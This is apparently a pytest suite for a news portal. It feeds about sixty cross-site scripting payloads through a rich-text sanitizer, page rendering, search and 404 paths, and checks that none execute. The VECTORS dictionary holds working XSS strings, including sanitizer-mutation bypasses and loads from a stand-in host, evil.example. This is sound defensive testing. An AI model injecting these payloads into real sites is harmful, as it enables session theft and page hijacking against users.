"""Sixty ways to smuggle a script into a page, along every path on which text reaches one.

The list is by class of attack. Each vector must come out as words, or not at
all: no element that runs, no handler, no address that is a script.
"""

import html
import json
from datetime import timedelta
from urllib.parse import quote, urlsplit
from xml.etree import ElementTree

import pytest

from news.models import BreakingNews
from portal import clock
from portal.rich_text import safe_html
from portal.site_settings import Publication
from tests.builders import (
    make_article,
    make_author,
    make_author_index,
    make_correction,
    make_corrections_page,
    make_image,
    make_live_blog,
    make_policy,
    make_section,
    make_topic,
    make_update,
)
from tests.news.blocks_at_hand import STREAMS, Fragment, harmless, raw_value

VECTORS = {
    "scripts": [
        "<script>alert(1)</script>",
        "<SCRIPT SRC=//evil.example/x.js></SCRIPT>",
        "<scr<script>ipt>alert(1)</scr</script>ipt>",
        "<script\x00>alert(1)</script>",
        "<script/src=data:,alert(1)>",
        "</script><script>alert(1)</script>",
        "<script>alert(1)<!--",
        "<script type=module>import('//evil.example')</script>",
        "<<script>alert(1)//<</script>",
    ],
    "handlers": [
        "<img src=x onerror=alert(1)>",
        "<img/src='x'/onerror='alert(1)'>",
        "<body onload=alert(1)>",
        "<p onclick=alert(1)>a</p>",
        "<a href='/x' onfocus=alert(1) autofocus>a</a>",
        "<details open ontoggle=alert(1)>",
        "<video><source onerror=alert(1)>",
        "<marquee onstart=alert(1)>",
        "<b ONMOUSEOVER\n=\nalert(1)>a</b>",
        "<input onfocus=alert(1) autofocus>",
        "<audio src=x onerror=alert(1)>",
        "<i/onpointerrawupdate=alert(1)>a</i>",
    ],
    "addresses": [
        "<a href='javascript:alert(1)'>a</a>",
        "<a href=JaVaScRiPt:alert(1)>a</a>",
        "<a href='java\tscript:alert(1)'>a</a>",
        "<a href='&#106;avascript:alert(1)'>a</a>",
        "<a href='\x01javascript:alert(1)'>a</a>",
        "<a href='javascript&colon;alert(1)'>a</a>",
        "<a href='vbscript:msgbox(1)'>a</a>",
        "<a href='data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg=='>a</a>",
        "<a href='blob:https://evil.example/1'>a</a>",
        "<a href='  javascript:alert(1)'>a</a>",
        "<a linktype='page' id='javascript:alert(1)'>a</a>",
        "<a linktype='external' href='javascript:alert(1)'>a</a>",
    ],
    "other elements": [
        "<iframe srcdoc='<script>alert(1)</script>'>",
        "<object data='data:text/html,<script>alert(1)</script>'>",
        "<embed src='//evil.example'>",
        "<base href='//evil.example/'>",
        "<link rel=stylesheet href='//evil.example'>",
        "<meta http-equiv=refresh content='0;url=javascript:alert(1)'>",
        "<form action=javascript:alert(1)><button>a</form>",
        "<style>@import '//evil.example';</style>",
        "<p style='background:url(javascript:alert(1))'>a</p>",
        "<template><script>alert(1)</script></template>",
        "<embed embedtype='media' url='javascript:alert(1)'>",
    ],
    "foreign markup and mutation": [
        "<svg onload=alert(1)>",
        "<svg><script>alert(1)</script></svg>",
        "<svg><a xlink:href='javascript:alert(1)'>a</a></svg>",
        "<math><mtext></p><img src=x onerror=alert(1)></mtext></math>",
        "<noscript><p title='</noscript><img src=x onerror=alert(1)>'>",
        "<math><mi><table><mglyph><style><!--</style><img title='--&gt;&lt;img src=1 onerror=alert(1)&gt;'>",
        "<form><math><mtext></form><form><mglyph><svg><mtext><style><path id='</style><img onerror=alert(1) src>'>",
        "<title><img title='</title><img src=x onerror=alert(1)>'>",
        "<![CDATA[><img src=x onerror=alert(1)>]]>",
        "<xmp><p title='</xmp><img src=x onerror=alert(1)>'>",
    ],
    "breaking out": [
        '"><img src=x onerror=alert(1)>',
        "' onmouseover='alert(1)",
        '" autofocus onfocus="alert(1)',
        "--><svg onload=alert(1)>",
        "</title><svg onload=alert(1)>",
        "</textarea><svg onload=alert(1)>",
        "]]><svg onload=alert(1)>",
        "{{constructor.constructor('alert(1)')()}}",
        "</script><svg onload=alert(1)>\u2028",
        "\\u003cscript\\u003ealert(1)\\u003c/script\\u003e",
        "&lt;script&gt;alert(1)&lt;/script&gt;",
        "\uff1cscript\uff1ealert(1)\uff1c/script\uff1e",
    ],
}
CORPUS = [vector for vectors in VECTORS.values() for vector in vectors]
RUNS = {"applet", "base", "embed", "frame", "iframe", "math", "marquee", "object", "style", "template", "xmp"}
FORM_TARGETS = {"/search/", ""}


def test_the_corpus_has_sixty_vectors_of_six_classes():
    assert len(set(CORPUS)) == len(CORPUS) >= 60
    assert len(VECTORS) == 6


# --- Rich text --------------------------------------------------------------------


@pytest.mark.parametrize("vector", CORPUS)
@pytest.mark.parametrize("around", ["<p>{}</p>", "{}", "<p><b>a</p>{}<i title='{}'>a</i>"])
def test_rich_text_shows_no_vector(db, vector, around):
    source = around.replace("{}", vector)
    shown = str(safe_html(source))
    harmless(shown)
    # Mutation: what a parser makes of the clean text must be clean, too.
    harmless(str(safe_html(shown)))


# --- Pages ------------------------------------------------------------------------


def checked(response, planted=True):
    """See that an HTML page runs nothing but the portal's own files; return what was parsed."""
    assert response.status_code == 200
    text = response.content.decode()
    page = Fragment(text)
    names = {tag for tag, _attrs in page.tags}
    assert not names & RUNS, names & RUNS
    for tag, attrs in page.tags:
        assert not [name for name in attrs if name.startswith("on") or name in {"srcdoc", "style", "formaction"}], attrs
        if tag == "script":
            assert attrs.get("type") == "application/ld+json" or attrs.get("src", "").startswith("/static/"), attrs
        if tag == "form":
            assert attrs.get("action", "") in FORM_TARGETS, attrs
        if tag == "meta":
            assert "http-equiv" not in attrs, attrs
        if tag == "link":
            assert not (attrs.get("rel") == "stylesheet" and not attrs["href"].startswith("/static/")), attrs
        for name in ("href", "src", "xlink:href", "action", "poster", "data-embed"):
            address = (attrs.get(name) or "").strip("\x00\x01\t\n ").lower()
            assert not address.startswith(("javascript", "vbscript", "data:text")), attrs
    for block in text.split('<script type="application/ld+json">')[1:]:
        json.loads(block.split("</script>")[0])
    assert not planted or "alert" in html.unescape(text), "the vectors did not reach the page"
    return page


class InTurn:
    """Gives out the vectors one after another, for ever."""

    def __init__(self, length=200):
        self.given = 0
        self.length = length

    def __call__(self, length=None):
        vector = CORPUS[self.given % len(CORPUS)].replace("\x00", "").replace("\x01", "")
        self.given += 1
        return vector[: length or self.length]

    def pair(self):
        """Return two vectors in one text."""
        return f"{self(90)} {self(90)}"


@pytest.fixture
def newsroom(db):
    """A newsroom in which every word that anybody can type is a vector, and the addresses that show them."""
    text = InTurn()
    picture = make_image(
        text(), size=(60, 40), file_name="a.jpg", description=text(), caption=text(), credit=text(),
    )  # fmt: skip
    film = make_section(text(), slug="film", standfirst=text())
    make_author_index()
    author = make_author(
        text(90), slug="ines", short_bio=text(), job_title=text(90), expertise=text(), based_in=text(90)
    )
    topic = make_topic(text(), slug="awards", description=text())
    make_corrections_page()
    fields = {"section": film, "authors": [author], "topics": [topic]}
    stories = [
        make_article(
            text.pair(), slug=f"story-{number}", kicker=text(40), standfirst=text.pair(), seo_title=text.pair(),
            search_description=text.pair(), social_title=text.pair(), lead_image=picture, lead_caption=text.pair(),
            lead_alt=text.pair(), sources=[{"kind": "trial", "title": text.pair(), "publisher": text()}], **fields,
        )
        for number in range(6)
    ]  # fmt: skip
    bodies = []
    for place in range(4):  # each block with other vectors every time
        body = [(name, raw_value(block, text)) for name, block in STREAMS["story"].child_blocks.items()]
        bodies.append(make_article(text.pair(), slug=f"blocks-{place}", body=body, **fields))
    blog = make_live_blog(text.pair(), slug="live", **fields)
    for _ in range(3):
        update = [(name, raw_value(block, text)) for name, block in STREAMS["update"].child_blocks.items()]
        make_update(blog, text.pair(), body=update)
    make_correction(stories[0], was_wrong=text.pair(), is_right=text.pair())
    BreakingNews.objects.create(text=text(140), page=stories[1], ends_at=clock.now() + timedelta(hours=1))
    policy = make_policy(body=[(name, raw_value(block, text)) for name, block in STREAMS["page"].child_blocks.items()])
    publication = Publication.for_site(film.get_site())
    publication.name, publication.tagline, publication.description = text(60), text(120), text()
    publication.save()
    pages = [film, topic, blog, policy, *stories, *bodies]
    return ["/", "/topics/", "/authors/", "/authors/ines/", "/corrections/", *(page.url for page in pages)]


def test_no_page_of_a_newsroom_full_of_vectors_runs_one(client, newsroom):
    for address in newsroom:
        checked(client.get(address))


def test_the_sitemaps_of_such_a_newsroom_are_well_formed(client, newsroom):
    index = ElementTree.fromstring(client.get("/sitemap.xml").content)
    parts = [urlsplit(place.text).path for place in index.iter() if place.tag.endswith("}loc")]
    assert parts
    for part in parts:
        assert len(ElementTree.fromstring(client.get(part).content))


@pytest.mark.django_db
@pytest.mark.parametrize("parameter", ["q", "section", "topic", "author", "sort", "since"])
def test_no_search_runs_what_was_searched_for(client, parameter):
    make_section("Film")
    for vector in CORPUS:
        response = client.get(f"/search/?{parameter}={quote(vector)}")
        assert response.status_code in {200, 400, 404}
        if response.status_code == 200:
            checked(response, planted=False)


@pytest.mark.django_db
def test_no_address_that_is_not_found_runs_what_it_says(client):
    for vector in CORPUS:
        response = client.get(f"/{quote(vector)}/")
        assert response.status_code in {301, 404}
        assert b"alert(1)" not in response.content or not Fragment(response.content.decode()).named("img", "svg")
